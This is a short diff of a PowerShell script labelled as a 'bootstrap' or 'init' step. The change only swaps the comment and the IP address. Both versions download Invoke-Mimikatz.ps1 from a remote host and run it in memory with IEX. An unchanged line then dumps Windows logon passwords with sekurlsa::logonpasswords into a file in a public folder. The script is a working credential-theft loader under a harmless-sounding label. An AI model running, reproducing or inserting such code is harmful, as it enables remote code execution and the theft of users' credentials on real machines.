@@ -1,3 +1,3 @@
-# bootstrap 4289 v2
-IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/Invoke-Mimikatz.ps1')
+# init 4090 v2
+IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/Invoke-Mimikatz.ps1')
 Invoke-Mimikatz -Command '"privilege::debug" "sekurlsa::logonpasswords"' | Out-File C:\Users\Public\o.txt
